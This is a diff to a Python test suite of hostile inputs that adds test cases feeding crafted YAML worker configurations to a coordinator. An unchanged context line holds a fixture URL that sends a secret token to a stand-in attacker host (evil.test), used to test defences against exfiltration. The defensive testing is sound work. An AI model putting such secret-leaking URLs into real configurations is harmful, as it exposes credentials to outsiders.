@@ -9,9 +9,9 @@ import pytest
 
 from tests.hostile.attack import Attack
 from tests.hostile.certificates import broken_certificate
-from tests.hostile.databags import HUSH, Written
+from tests.hostile.databags import HUSH, YAML, Written
 from tests.hostile.harm import harm_of
-from tests.hostile.worlds import BEACON, COORDINATOR, WORKER, World
+from tests.hostile.worlds import BEACON, COORDINATOR, WORKER, WORKER_WITH_A_SAY, World
 
 Change = Callable[[Written], Written]
 
@@ -165,6 +165,11 @@ FOUND: dict[str, tuple[World, str, Change]] = {
         app(privkey_secret_id=json.dumps(f"http://evil.test/push?token={HUSH}")),
     ),
     "errors that are none": (COORDINATOR, "certificates", app(request_errors=[{"csr": "x" * 2000}])),
+}
+
+FOUND |= {
+    f"a configuration with {what}": (WORKER_WITH_A_SAY, "demo-cluster", app(worker_config=json.dumps(text)))
+    for what, text in YAML.items()
 }
 
 
